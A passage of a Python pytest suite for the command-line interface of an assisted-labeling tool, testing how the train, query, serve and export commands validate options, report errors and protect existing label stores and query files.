    exact.set_meta(FLOATS_META, "exact")  # recorded before the reader had a name
    assert store_reader(exact) == "exact"


@pytest.mark.parametrize("options, words", [
    (["--strategy", "entropy"], "--strategy: only used with --retrain-every"),
    (["--strategy", "margin"], "--strategy: only used with --retrain-every"),  # the default
    (["--model", "linear", "--retrain-every", "0"], "--model: only used with"),
    (["--text-column", "a", "--model", "gbdt"], "--text-column, --model: only used with"),
    (["--retrain-every", "-2"], "--retrain-every must be 0"),
    (["--retrain-every", "5", "--text-column", "nope"], 'No column "nope"'),
    (["--retrain-every", "5", "--feature-columns", "a,zz"], 'No column "zz"'),
    (["--retrain-every", "5", "--multi-label"], "multi-label projects are not retrained"),
    (["--retrain-every", "5", "--feature-columns", "a,a"], "'a' named twice"),
    (["--retrain-every", "5", "--feature-columns", ","], "expected column names"),
])
def test_serve_refuses_retraining_options_it_would_ignore_or_fail_on_later(
        float_pool, tmp_path, capsys, monkeypatch, options, words):
    import assisted_labeling.server

    def never(*args, **kwargs):
        raise AssertionError("the server started")

    monkeypatch.setattr(assisted_labeling.server, "serve", never)
    _, pool, _ = float_pool
    assert cli.main(["serve", str(pool), "--categories", "p,n", "--store",
                     str(tmp_path / "s.db"), "--port", str(free_port()), *options]) == 2
    assert words in one_line_error(capsys)
    assert not list(tmp_path.glob("s.db*"))  # a refused start leaves nothing behind


def queries_of(pool, model, path):
    """``path``, written by `query` with ``model`` on ``pool``."""
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                     str(path)]) == 0
    return path


def pool_and_other_queries(float_pool, tmp_path):
    """The pool, and queries made from another table (serve refuses them once the pool
    is read)."""
    frame, pool, model = float_pool
    other = tmp_path / "other.csv"
    (frame + 1).to_csv(other, index=False)
    queries = tmp_path / "q.csv"
    assert cli.main(["query", "--model", str(model), "--input", str(other), "-o",
                     str(queries)]) == 0
    return pool, queries


def test_a_start_refused_after_the_store_was_made_removes_it(float_pool, tmp_path, capsys):
    """The queries belong to another table: found out once the pool is read into a new
    store, which goes again; an existing store stays, labels and all."""
    pool, queries = pool_and_other_queries(float_pool, tmp_path)
    store = tmp_path / "s.db"
    serve = ["serve", str(pool), "--categories", "p,n", "--store", str(store),
             "--port", str(free_port()), "--queries"]
    assert cli.main([*serve, str(queries)]) == 2
    message = one_line_error(capsys)
    # Without an id column, a copy of the pool in another format is the other suspect.
    assert "another table" in message and "serve with --id-column" in message
    assert not list(tmp_path.glob("s.db*"))
    assert cli.main([*serve, str(tmp_path / "none.csv")]) == 2
    assert 'No queries file "' in one_line_error(capsys)
    assert not list(tmp_path.glob("s.db*"))
    project = open_project(pool, store, {"categories": "p,n"}, progress=False)
    item = project.next_items(Principal("local", "manager"), 1)[0]["id"]
    project.store.save_label("local", item, "p", ["p"])
    project.store.close()
    assert cli.main([*serve, str(queries)]) == 2
    assert SQLiteStore(store).get_annotation("local", item).label == "p"


def test_a_failed_start_keeps_a_new_store_another_program_wrote_to(float_pool, tmp_path,
                                                                   capsys, monkeypatch):
    """`users add` ran on the new store while this start-up read the pool: when the
    start-up then fails, the store and its account stay."""
    pool, queries = pool_and_other_queries(float_pool, tmp_path)
    store = tmp_path / "s.db"
    order_queue = cli._order_queue

    def meanwhile(*args):
        SQLiteStore(store).add_user("ann", "annotator", "a-long-pass-phrase")
        order_queue(*args)

    monkeypatch.setattr(cli, "_order_queue", meanwhile)
    assert cli.main(["serve", str(pool), "--categories", "p,n", "--store", str(store),
                     "--port", str(free_port()), "--queries", str(queries)]) == 2
    assert "another table" in one_line_error(capsys)
    assert [u.name for u in SQLiteStore(store).list_users()] == ["ann"]


def test_demo_refuses_a_negative_period_before_making_its_directory(tmp_path, capsys):
    assert cli.main(["demo", "--dir", str(tmp_path / "d"), "--retrain-every", "-5"]) == 2
    assert "--retrain-every must be 0" in one_line_error(capsys)
    assert not (tmp_path / "d").exists()


def test_serve_refuses_a_busy_port_before_reading_the_pool(float_pool, tmp_path, capsys):
    import socket

    _, pool, _ = float_pool
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        assert cli.main(["serve", str(pool), "--categories", "p,n", "--store",
                         str(tmp_path / "s.db"), "--port", str(port)]) == 2
    assert f"Cannot listen on 127.0.0.1 port {port}" in one_line_error(capsys)
    assert not (tmp_path / "s.db").exists()


def test_query_refuses_an_id_column_other_than_the_stores(labeled_store, model_files,
                                                          tmp_path, capsys):
    # Ids would not match the store's: every labeled item would come back as a query.
    model, pool = model_files
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "--store",
                     str(labeled_store), "--id-column", "x", "-o",
                     str(tmp_path / "q.csv")]) == 2
    assert "--id-column x differs from the store's, which is id" in one_line_error(capsys)


def test_train_and_query_refuse_a_missing_id_column_and_zero_queries(model_files, tmp_path,
                                                                     capsys):
    model, pool = model_files
    assert cli.main(["train", str(tmp_path / "train.csv"), "--id-column", "nope", "-o",
                     str(tmp_path / "m2.skops")]) == 2
    err = capsys.readouterr().err
    assert 'error: No id column "nope"' in err and "Fitting" not in err  # said first
    out = tmp_path / "q.csv"
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o", str(out),
                     "--max-queries", "0"]) == 2
    assert "--max-queries must be at least 1" in one_line_error(capsys)
    assert not out.exists()


def test_help_states_the_defaults(capsys):
    with pytest.raises(SystemExit):
        cli.main(["query", "--help"])
    text = " ".join(capsys.readouterr().out.split())
    assert "(default: margin)" in text and "(default: 0)" in text  # strategy, seed
    with pytest.raises(SystemExit):
        cli.main(["serve", "--help"])
    text = " ".join(capsys.readouterr().out.split())
    assert "(default: labels.db)" in text and "(default: label)" in text


def test_query_reads_the_pool_as_its_store_did(float_pool, tmp_path):
    """A store whose items were read with pandas' float parser: query --store must read
    the pool the same way, or a labeled row whose floats differ gets another id and
    comes back as a query."""
    from assisted_labeling.sources import iter_rows
    from assisted_labeling.standalone import FLOATS_META

    frame, pool, model = float_pool
    loose = list(iter_rows(pool, reader="pandas"))
    exact = list(iter_rows(pool))
    differ = [i for i, (a, b) in enumerate(zip(loose, exact)) if a.key != b.key]
    assert differ, "no row of the pool tells the two parsers apart"
    db = tmp_path / "older.db"
    SQLiteStore(db).set_meta(FLOATS_META, "pandas")
    project = open_project(pool, db, {"categories": "p,n"}, progress=False)
    project.annotate(LOCAL_USER, {"item_id": loose[differ[0]].key, "label": "p"})
    project.store.close()
    out = tmp_path / "q.csv"
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o", str(out),
                     "--store", str(db)]) == 0
    assert len(pd.read_csv(out)) == 399


def test_query_says_when_no_labeled_item_of_its_store_is_in_the_pool(float_pool, tmp_path,
                                                                    capsys):
    frame, pool, model = float_pool
    db = tmp_path / "s.db"
    project = open_project(pool, db, {"categories": "p,n"}, progress=False)
    first = next(iter(project.next_items(LOCAL_USER, 1)))
    project.annotate(LOCAL_USER, {"item_id": first["id"], "label": "p"})
    project.store.close()
    out = tmp_path / "q.csv"
    args = ["query", "--model", str(model), "-o", str(out), "--store", str(db)]
    assert cli.main([*args, "--input", str(pool)]) == 0
    assert "Left out 1 of 400 rows" in capsys.readouterr().err
    other = tmp_path / "other.csv"  # another version of the file: every row differs
    (frame + 1).to_csv(other, index=False)
    assert cli.main([*args, "--input", str(other)]) == 0
    assert "none of the 1 item labeled in the store" in capsys.readouterr().err


def test_a_legacy_store_refusing_queries_says_to_query_with_it(float_pool, tmp_path):
    from assisted_labeling.errors import LabelingError
    from assisted_labeling.standalone import FLOATS_META

    frame, pool, model = float_pool
    queries = tmp_path / "q.parquet"
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                     str(queries)]) == 0
    db = tmp_path / "older.db"
    SQLiteStore(db).set_meta(FLOATS_META, "pandas")
    other = tmp_path / "other.csv"
    (frame + 1).to_csv(other, index=False)
    project = open_project(other, db, {"categories": "p,n"}, progress=False)
    with pytest.raises(LabelingError, match=r"query --store .*older\.db"):
        cli._order_queue(project, str(queries), str(other))


def test_jsonl_writes_infinities_as_null(tmp_path):
    from assisted_labeling.export import write_frame

    out = tmp_path / "t.jsonl"
    write_frame(pd.DataFrame({"x": [1.5, float("inf"), float("-inf"), float("nan")]}), out)
    assert [json.loads(line)["x"] for line in out.read_text().splitlines()] == [
        1.5, None, None, None]


# -- the standalone train / query / serve path ------------------------------------------
def test_a_model_trained_on_dates_queries_pools_of_any_format(tmp_path, capsys):
    dates = pd.date_range("2024-01-01", periods=40, freq="D", tz="Europe/Paris")
    frame = pd.DataFrame({"x": [i % 7 / 7 for i in range(40)], "when": dates,
                          "flag": [i % 3 == 0 for i in range(40)],
                          "label": ["early"] * 20 + ["late"] * 20})
    frame.to_parquet(tmp_path / "train.parquet", index=False)
    model = tmp_path / "m.skops"
    assert cli.main(["train", str(tmp_path / "train.parquet"), "-o", str(model)]) == 0
    pool = frame.drop(columns="label")
    pool.to_parquet(tmp_path / "pool.parquet", index=False)
    pool.to_csv(tmp_path / "pool.csv", index=False)
    ranked = []
    for name in ("pool.parquet", "pool.csv"):
        out = tmp_path / f"q_{name}.csv"
        assert cli.main(["query", "--model", str(model), "--input", str(tmp_path / name),
                         "-o", str(out), "--no-cold-start"]) == 0
        ranked.append(pd.read_csv(out)["uncertainty"].round(9).tolist())
    assert ranked[0] == ranked[1]


def test_train_refuses_the_label_and_query_columns_as_features(two_class_export, tmp_path,
                                                                capsys):
    export, _ = two_class_export
    for features, words in (("score,label", '"label" is the label column'),
                            ("score,session", '"session" is a column that `query` adds')):
        assert cli.main(["train", str(export), "--feature-columns", features,
                         "-o", str(tmp_path / "m.skops")]) == 2
        assert words in one_line_error(capsys)
    assert not (tmp_path / "m.skops").exists()


def test_query_says_a_model_directory_is_a_directory(model_files, tmp_path, capsys):
    _, pool = model_files
    capsys.readouterr()
    assert cli.main(["query", "--model", str(tmp_path), "--input", str(pool), "-o",
                     str(tmp_path / "q.csv")]) == 2
    assert "is a directory: give the model file (.skops)" in one_line_error(capsys)


def test_query_shows_the_loading_of_a_big_model(model_files, tmp_path, monkeypatch, capsys):
    model, pool = model_files
    args = ["query", "--model", str(model), "--input", str(pool), "-o",
            str(tmp_path / "q.csv")]
    capsys.readouterr()
    assert cli.main(args) == 0
    assert "Loading the model" not in capsys.readouterr().err  # small: no line
    monkeypatch.setattr(cli, "BIG_MODEL_BYTES", 1)
    assert cli.main(args) == 0
    assert "Loading the model m.skops" in capsys.readouterr().err


@pytest.mark.parametrize("columns, options, clash", [
    ("x,label_id", [], '"label_id"'),
    ("x,label", [], '"label"'),
    ("x,answer", ["--label-column", "answer"], '"answer"'),
])
def test_serve_refuses_a_pool_whose_columns_the_labels_export_writes(
        tmp_path, capsys, columns, options, clash):
    pool = tmp_path / "pool.csv"
    pool.write_text(f"{columns}\n0.1,7\n0.2,8\n")
    store = tmp_path / "s.db"
    assert cli.main(["serve", str(pool), "--categories", "a,b", "--store", str(store),
                     *options]) == 2
    message = one_line_error(capsys)
    assert clash in message and "--label-column" in message
    assert not store.exists()  # refused before anything is written


def test_serve_refuses_retraining_on_the_label_or_query_columns(tmp_path, capsys,
                                                                monkeypatch):
    import assisted_labeling.server
    from assisted_labeling import retrain

    def never(*args, **kwargs):
        raise AssertionError("the server or the retraining started")

    monkeypatch.setattr(assisted_labeling.server, "serve", never)
    monkeypatch.setattr(retrain, "start_worker", never)
    pool = tmp_path / "pool.csv"
    pool.write_text("x,session\n0.1,web\n0.2,app\n")
    assert cli.main(["serve", str(pool), "--categories", "a,b", "--store",
                     str(tmp_path / "s.db"), "--retrain-every", "2", "--feature-columns",
                     "x,session"]) == 2
    assert '"session" is a column that `query` adds' in one_line_error(capsys)


def test_cli_messages_name_flags_columns_and_what_was_left_out(model_files, tmp_path,
                                                                capsys):
    model, pool = model_files
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                     str(tmp_path / "q.csv"), "--batch-size", "0"]) == 2
    assert "--batch-size must be at least 1" in one_line_error(capsys)
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                     str(tmp_path / "q.csv"), "--strategy", "random", "--seed", "-5"]) == 2
    assert "--seed must be 0 or more (got -5)" in one_line_error(capsys)
    data = tmp_path / "half.csv"
    pd.DataFrame({"txt": ["good", "bad", "fine", "poor", "meh", "ok"],
                  "label": ["p", "n", "p", "n", None, ""]}).to_csv(data, index=False)
    out = str(tmp_path / "t.skops")
    assert cli.main(["train", str(data), "--text-column", "text", "-o", out]) == 2
    assert 'No column "text" in the data (columns: txt, label)' in one_line_error(capsys)
    assert cli.main(["train", str(data), "--text-column", "txt", "-o", out]) == 0
    assert "Trained on 4 labeled rows (n, p)" in (err := capsys.readouterr().err)
    assert "(2 rows without a label left out)" in err


def test_serve_refuses_a_feature_column_mixing_numbers_and_text_at_start(tmp_path,
                                                                          capsys):
    pool = tmp_path / "mix.jsonl"
    pool.write_text("".join(json.dumps({"mix": i if i % 2 else "text", "t": "a"}) + "\n"
                            for i in range(6)))
    assert cli.main(["serve", str(pool), "--categories", "a,b", "--store",
                     str(tmp_path / "s.db"), "--retrain-every", "3", "--feature-columns",
                     "mix"]) == 2
    assert 'column "mix" mixes numbers and text' in one_line_error(capsys)
    assert not list(tmp_path.glob("s.db*"))


def test_serve_warns_of_existing_labels_that_are_not_classes(tmp_path, capsys, monkeypatch):
    import assisted_labeling.server

    monkeypatch.setattr(assisted_labeling.server, "serve", lambda *a, **k: None)
    pool = tmp_path / "pre.csv"
    pool.write_text("id,text,ctx\n1,a,good\n2,b,x\n3,c,\n4,d,y\n")
    base = ["serve", str(pool), "--categories", "good,bad", "--id-column", "id",
            "--existing-labels-column", "ctx", "--port", str(free_port()), "--store"]
    assert cli.main([*base, str(tmp_path / "s.db")]) == 0
    err = capsys.readouterr().err
    assert ('Warning: 2 of 3 existing labels in column "ctx" (first 4 rows) are not '
            "classes, such as 'x'") in err
    pool.write_text("id,text,ctx\n1,a,good\n2,b,bad\n")
    assert cli.main([*base, str(tmp_path / "t.db")]) == 0
    assert "existing labels" not in capsys.readouterr().err
    # Classes 0 and 1 in a column with blanks: pandas reads 1.0, the page shows "1".
    pool.write_text("id,text,ctx\n1,a,\n2,b,1\n3,c,0\n")
    assert cli.main([*base[:3], "0,1", *base[4:], str(tmp_path / "u.db")]) == 0
    assert "existing labels" not in capsys.readouterr().err


def test_export_to_the_standard_output(tmp_path, capsys):
    project = served(tmp_path, "id,text\n1,good\n2,bad\n3,fine\n", "pos,neg",
                     [("1", "pos"), ("2", "neg")])
    db = project.store.path
    project.store.close()
    assert cli.main(["export", "--store", str(db), "-o", "-"]) == 0
    out, err = capsys.readouterr()
    assert out.splitlines() == ["id,text,label,label_id", "1,good,pos,1", "2,bad,neg,2"]
    assert "Wrote 2 rows of labels to the standard output" in err
    assert cli.main(["export", "--store", str(db), "-o", "-", "--format", "jsonl",
                     "--table", "metadata"]) == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(r["data_id"], r["label"]) for r in rows] == [("1", "pos"), ("2", "neg")]
    assert not (tmp_path / "-").exists()
    with contextlib.redirect_stdout(io.StringIO()) as caught:  # a caller's stand-in
        assert cli.main(["export", "--store", str(db), "-o", "-"]) == 0
    assert caught.getvalue().splitlines()[1] == "1,good,pos,1"
    # UTF-8 whatever the terminal's encoding, as files are written.
    import os
    import subprocess
    import sys

    (tmp_path / "u").mkdir()
    project = served(tmp_path / "u", "id,text\n1,héllo 日本\n", "pos,neg", [("1", "pos")])
    project.store.close()
    done = subprocess.run(
        [sys.executable, "-m", "assisted_labeling.cli", "export", "--store",
         str(project.store.path), "-o", "-"], capture_output=True,
        env={**os.environ, "PYTHONIOENCODING": "latin-1"}, check=True)
    assert done.stdout.decode("utf-8").splitlines()[1] == "1,héllo 日本,pos,1"
    # A reader that stops early (`| head -1`): a quiet end, no traceback, no error line.
    (tmp_path / "big").mkdir()
    rows = "".join(f"{i},some text of row {i}\n" for i in range(4000))
    project = served(tmp_path / "big", "id,text\n" + rows, "pos,neg",
                     [(str(i), "pos") for i in range(4000)])
    project.store.close()
    export = subprocess.Popen(
        [sys.executable, "-m", "assisted_labeling.cli", "export", "--store",
         str(project.store.path), "-o", "-"], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert export.stdout.readline() == b"id,text,label,label_id\n"
    export.stdout.close()
    assert export.wait(timeout=60) == 1 and export.stderr.read() == b""
    assert cli.main(["query", "--model", str(tmp_path / "m.skops"), "--input",
                     str(tmp_path / "rows.csv"), "-o", "-"]) == 2  # a file, with a session
    assert 'Cannot write "-"' in one_line_error(capsys)


@pytest.mark.parametrize("columns, text, features", [
    (["review"], "review", ()),
    (["review", "stars"], None, ("stars",)),
    (["review_id", "review"], "review", ()),  # an id-like column is no feature, as in train
])
def test_serve_retrains_on_free_text_as_text(tmp_path, capsys, monkeypatch, columns, text,
                                             features):
    """A pool of reviews, retrained without column options: TF-IDF on the reviews, not a
    one-hot encoding of values that never repeat (a model that ranks nothing)."""
    import assisted_labeling.server

    settings = []
    monkeypatch.setattr(assisted_labeling.server, "serve", lambda *a, **k: None)
    monkeypatch.setattr(cli, "_start_retrainer",
                        lambda args, s, project, retrain: settings.append(retrain))
    words = ["late", "early", "broken", "fine", "great", "awful"]
    frame = pd.DataFrame({"id": range(30), "review_id": range(100, 130),
                          "stars": [1, 5, 3] * 10,
                          "review": [f"parcel {i} came {words[i % 6]} and the box was ok"
                                     for i in range(30)]})
    pool = tmp_path / "pool.csv"
    frame[["id", *columns]].to_csv(pool, index=False)
    assert cli.main(["serve", str(pool), "--categories", "a,b", "--id-column", "id",
                     "--store", str(tmp_path / "s.db"), "--retrain-every", "5"]) == 0
    assert settings[0].text_column == text and settings[0].feature_columns == features
    err = capsys.readouterr().err
    assert ('"review" holds free text' in err) == (text is None)


@pytest.mark.parametrize("options, words", [
    (["--port", "0"], "--port must be between 1 and 65535 (got 0)"),
    (["--port", "99999"], "--port must be between 1 and 65535 (got 99999)"),
    (["--workers", "0"], "--workers must be at least 1"),
    (["--threads", "0"], "--threads must be at least 1"),
    (["--categories", "a", "--retrain-every", "3"], "needs at least 2 categories"),
])
def test_serve_refuses_settings_it_could_not_serve_or_retrain_with(
        float_pool, tmp_path, capsys, monkeypatch, options, words):
    import assisted_labeling.server

    monkeypatch.setattr(assisted_labeling.server, "serve", lambda *a, **k: None)
    _, pool, _ = float_pool
    args = ["serve", str(pool), "--categories", "p,n", "--store", str(tmp_path / "s.db"),
            "--port", str(free_port()), *options]
    assert cli.main(args) == 2
    assert words in one_line_error(capsys)
    assert not list(tmp_path.glob("s.db*"))


@pytest.mark.parametrize("content, words", [
    (b"x\xff\xfe", "not UTF-8 text"), (None, "No such file")])
def test_serve_explains_an_instructions_file_it_cannot_read(
        float_pool, tmp_path, capsys, monkeypatch, content, words):
    import assisted_labeling.server

    monkeypatch.setattr(assisted_labeling.server, "serve", lambda *a, **k: None)
    _, pool, _ = float_pool
    guide = tmp_path / "guide.md"
    if content is not None:
        guide.write_bytes(content)
    assert cli.main(["serve", str(pool), "--categories", "p,n", "--store",
                     str(tmp_path / "s.db"), "--port", str(free_port()),
                     "--instructions", str(guide)]) == 2
    assert f'Cannot read the instructions "{guide}": {words}' in one_line_error(capsys)


@pytest.mark.parametrize("options, words", [
    (["--feature-columns", "x,y,x"], "'x' named twice"),
    (["--feature-columns", " , "], "expected column names separated by commas"),
    (["--text-column", ""], "--text-column: expected a column name"),
])
def test_train_refuses_column_options_that_name_no_column_or_one_twice(
        model_files, tmp_path, capsys, options, words):
    assert cli.main(["train", str(tmp_path / "train.csv"), *options,
                     "-o", str(tmp_path / "a.skops")]) == 2
    assert words in one_line_error(capsys)


def test_serve_refuses_queries_whose_uncertainty_is_not_a_number(float_pool, tmp_path,
                                                                 capsys):
    frame, pool, model = float_pool
    queries = queries_of(pool, model, tmp_path / "q.csv")
    table = pd.read_csv(queries, dtype=str)
    table.loc[3, "uncertainty"] = "high"
    table.to_csv(queries, index=False)
    assert cli.main(["serve", str(pool), "--categories", "p,n", "--store",
                     str(tmp_path / "s.db"), "--port", str(free_port()), "--queries",
                     str(queries)]) == 2
    assert "row 4" in one_line_error(capsys)


def test_a_restart_with_another_id_column_is_refused(tmp_path):
    """Ids stay what the store made them (the file did not change), while the store
    would record the new column: query --store and serve --queries then found nothing."""
    from assisted_labeling.errors import ConfigError

    project = served(tmp_path, "id,text\n1,good\n2,bad\n", "pos,neg", [("1", "pos")])
    project.store.close()
    for settings, said in (({"categories": "pos,neg"}, "their content"),
                           ({"categories": "pos,neg", "id_column": "text"}, '"text"')):
        with pytest.raises(ConfigError, match=rf'column "id".*{said}'):
            open_project(tmp_path / "rows.csv", tmp_path / "labels.db", settings,
                         progress=False)
    again = open_project(tmp_path / "rows.csv", tmp_path / "labels.db",
                         {"categories": "pos,neg", "id_column": "id"}, progress=False)
    assert again.store.stats().per_class == {"pos": 1}
    again.store.close()


def test_a_restart_switching_single_and_multi_label_is_refused_once_labeled(tmp_path):
    from assisted_labeling.errors import ConfigError

    project = served(tmp_path, "id,text\n1,good\n2,bad\n", "pos,neg")
    project.store.close()
    settings = {"categories": "pos,neg", "id_column": "id"}
    # Nothing labeled yet: the mode may change.
    open_project(tmp_path / "rows.csv", tmp_path / "labels.db",
                 {**settings, "multi_label": True}, progress=False).store.close()
    project = open_project(tmp_path / "rows.csv", tmp_path / "labels.db",
                           {**settings, "multi_label": True}, progress=False)
    project.annotate(LOCAL_USER, {"item_id": "1", "label": ["pos"]})
    project.store.close()
    with pytest.raises(ConfigError, match="multi-label"):
        open_project(tmp_path / "rows.csv", tmp_path / "labels.db", settings,
                     progress=False)


def test_serve_warns_of_labels_whose_class_left_the_categories(tmp_path, capsys,
                                                               monkeypatch):
    project = served(tmp_path, "id,text\n1,good\n2,bad\n3,meh\n", "pos,neg,meh",
                     [("1", "pos"), ("2", "meh"), ("3", "meh")])
    cli._warn_left_out_classes(project)
    assert capsys.readouterr().err == ""
    project.store.close()
    project = open_project(tmp_path / "rows.csv", tmp_path / "labels.db",
                           {"categories": "pos,neg", "id_column": "id"}, progress=False)
    cli._warn_left_out_classes(project)
    err = capsys.readouterr().err
    assert '"meh" 2 times' in err and "exports" in err
    project.store.close()


def test_serve_refuses_a_text_column_and_feature_columns_together(float_pool, tmp_path,
                                                                  capsys):
    frame, pool, model = float_pool
    assert cli.main(["serve", str(pool), "--categories", "p,n", "--store",
                     str(tmp_path / "s.db"), "--port", str(free_port()), "--retrain-every",
                     "5", "--text-column", "a", "--feature-columns", "b"]) == 2
    assert "not both" in one_line_error(capsys)
    assert not (tmp_path / "s.db").exists()


def test_a_host_that_is_no_address_says_to_check_the_host(capsys):
    with pytest.raises(cli.LabelingError, match="999.1.1.1: .*check --host"):
        cli._check_port("999.1.1.1", free_port())


def test_users_add_without_a_name_is_one_line_about_users(tmp_path, capsys):
    assert cli.main(["users", "add", "--store", str(tmp_path / "l.db")]) == 2
    err = capsys.readouterr().err
    assert err == "error: users add needs a user name\n"  # not the top-level usage


def test_a_store_in_a_missing_directory_is_said_before_the_accounts_advice(float_pool,
                                                                          tmp_path, capsys):
    frame, pool, model = float_pool
    store = tmp_path / "nodir" / "s.db"
    assert cli.main(["serve", str(pool), "--categories", "p,n", "--host", "0.0.0.0",
                     "--store", str(store), "--port", str(free_port())]) == 2
    assert "does not exist" in one_line_error(capsys)


def test_query_never_replaces_queries_that_were_labeled_or_added_to(model_files, tmp_path,
                                                                     capsys):
    """A queries table is where people type labels: the next run must not wipe them."""
    model, pool = model_files
    out = tmp_path / "q.csv"
    base = ["query", "--model", str(model), "--input", str(pool), "-o", str(out)]
    assert cli.main(base) == 0
    typed = pd.read_csv(out).assign(label=["a", "b"] + [""] * 28)  # a column of its own
    typed.to_csv(out, index=False)
    before = out.read_bytes()
    assert cli.main(base) == 2
    assert ('holds 2 value(s) in its column "label", which the pool has not'
            in one_line_error(capsys))
    assert out.read_bytes() == before
    # The pool is the table `train` learned from: its label column comes out empty, and
    # labels typed into it are seen.
    table = tmp_path / "table.csv"
    pd.read_csv(pool).assign(label=["a", "b"] + [""] * 28).to_csv(table, index=False)
    out.unlink()
    from_table = ["query", "--model", str(model), "--input", str(table), "-o", str(out)]
    assert cli.main(from_table) == 0
    assert cli.main(from_table) == 0  # nothing typed yet: replaced
    queries = pd.read_csv(out, keep_default_na=False)
    queries.loc[:2, "label"] = "a"
    queries.to_csv(out, index=False)
    before = out.read_bytes()
    assert cli.main(from_table) == 2
    assert 'holds 3 value(s) in its column "label":' in one_line_error(capsys)
    assert out.read_bytes() == before


def test_query_leaves_out_rows_labeled_in_the_models_own_label_column(tmp_path, capsys):
    table = tmp_path / "t.csv"
    pd.DataFrame({"x": [0.1, 0.9, 0.2, 0.8, 0.3, 0.7, 0.5, 0.6],
                  "label": [1, 0, 1, 0, 1, 0, 1, 0],  # a feature named "label"
                  "sentiment": ["b", "a", "b", "a", "b", "a", "", ""]}).to_csv(table,
                                                                              index=False)
    model = tmp_path / "m.skops"
    assert cli.main(["train", str(table), "--label-column", "sentiment",
                     "--feature-columns", "x,label", "-o", str(model)]) == 0
    out = tmp_path / "q.csv"
    assert cli.main(["query", "--model", str(model), "--input", str(table),
                     "-o", str(out)]) == 0
    assert len(pd.read_csv(out)) == 2  # the two rows without a sentiment
    assert 'labeled in its column "sentiment"' in capsys.readouterr().err
    out.unlink()
    assert cli.main(["query", "--model", str(model), "--input", str(table), "-o", str(out),
                     "--label-column", "label"]) == 2
    assert "--label-column label is a column the model reads" in one_line_error(capsys)


@pytest.mark.parametrize("pipeline", ["passthrough", "unfitted", "other classes"])
def test_a_model_file_that_is_no_fitted_classifier_of_its_classes_is_refused(
        model_files, tmp_path, capsys, pipeline):
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline

    from assisted_labeling import models

    model, pool = model_files
    state = sio.load(str(model), trusted=sorted(models.TRUSTED_TYPES))
    if pipeline == "passthrough":
        state["pipeline"] = "passthrough"
    elif pipeline == "unfitted":
        state["pipeline"] = Pipeline([("model", LogisticRegression())])
    else:
        state["classes"] = ["a", "b", "c"]
    crafted = tmp_path / "crafted.skops"
    sio.dump(state, str(crafted))
    assert cli.main(["query", "--model", str(crafted), "--input", str(pool),
                     "-o", str(tmp_path / "q.csv")]) == 2
    assert "no fitted classifier of the classes it names" in one_line_error(capsys)


def test_train_says_which_feature_columns_it_left_out_for_being_empty(tmp_path, capsys):
    table = tmp_path / "t.csv"
    pd.DataFrame({"x": [0.1, 0.9, 0.2, 0.8], "e": [None] * 4,
                  "label": ["b", "a", "b", "a"]}).to_csv(table, index=False)
    assert cli.main(["train", str(table), "--feature-columns", "x,e",
                     "-o", str(tmp_path / "m.skops")]) == 0
    err = capsys.readouterr().err
    assert "Features: x (number); not read: e" in err
    assert "Note: e holds no value in the labeled rows: not read" in err
    assert "Warning" not in err  # no scikit-learn warning
    assert cli.main(["train", str(table), "--feature-columns", "e",
                     "-o", str(tmp_path / "m.skops")]) == 2
    assert '"e" holds no value in the 4 labeled rows' in one_line_error(capsys)


def test_gbdt_with_a_text_column_is_refused_not_ignored(tmp_path, capsys):
    table = tmp_path / "t.csv"
    pd.DataFrame({"id": range(6), "text": [f"review number {i} says it was {w} again"
                                           for i, w in enumerate(["great", "awful"] * 3)],
                  "label": ["pos", "neg"] * 3}).to_csv(table, index=False)
    out = tmp_path / "m.skops"
    assert cli.main(["train", str(table), "--text-column", "text", "--model", "gbdt",
                     "-o", str(out)]) == 2
    assert "--model gbdt learns from feature columns, but --text-column is given" in \
        one_line_error(capsys)
    assert cli.main(["train", str(table), "--id-column", "id", "--model", "gbdt",
                     "-o", str(out)]) == 2
    assert 'learned from as the text column "text"' in one_line_error(capsys)
    assert not out.exists()
    pool = tmp_path / "pool.csv"
    pd.read_csv(table).drop(columns="label").to_csv(pool, index=False)
    assert cli.main(["serve", str(pool), "--categories", "pos,neg", "--id-column", "id",
                     "--store", str(tmp_path / "s.db"), "--retrain-every", "5",
                     "--text-column", "text", "--model", "gbdt"]) == 2
    assert "--model gbdt learns from feature columns" in one_line_error(capsys)
    assert not (tmp_path / "s.db").exists()


def test_a_label_column_of_numbers_is_said_to_be_one_in_plain_words(tmp_path, capsys,
                                                                    caplog, recwarn):
    table = tmp_path / "t.csv"
    pd.DataFrame({"x": [i / 60 for i in range(60)], "y": [i % 7 for i in range(60)],
                  "score": [round(i * 0.37, 2) for i in range(60)]}).to_csv(table,
                                                                           index=False)
    with caplog.at_level("WARNING", logger="assisted_labeling.models"):
        assert cli.main(["train", str(table), "--label-column", "score",
                         "-o", str(tmp_path / "m.skops")]) == 0
    err = capsys.readouterr().err
    assert ('The label column "score" holds 60 different values among 60 labeled rows'
            in caplog.text)
    assert not [w for w in recwarn if "regression" in str(w.message)]  # scikit-learn's
    summary = next(line for line in err.splitlines() if line.startswith("Trained on"))
    assert "… 60 classes)" in summary and len(summary) < 300


def test_cosmetic_refusals_of_query_and_train_say_what_is_wrong(model_files, tmp_path,
                                                                capsys, monkeypatch):
    model, pool = model_files
    out = str(tmp_path / "q.csv")
    semicolons = tmp_path / "semi.csv"
    semicolons.write_text("id;x;y\n1;0.5;0.5\n")
    assert cli.main(["query", "--model", str(model), "--input", str(semicolons),
                     "-o", out]) == 2
    assert "separated by something other than commas" in one_line_error(capsys)
    internal = tmp_path / "internal.csv"
    pd.read_csv(pool).assign(__position=1).to_csv(internal, index=False)
    assert cli.main(["query", "--model", str(model), "--input", str(internal),
                     "-o", out]) == 2
    assert "has a column named __position, a name query keeps" in one_line_error(capsys)
    table = tmp_path / "train.csv"
    for option in (["--feature-columns", " "], ["--id-column", "x", "--feature-columns",
                                                 "x,y"]):
        assert cli.main(["train", str(table), *option, "-o",
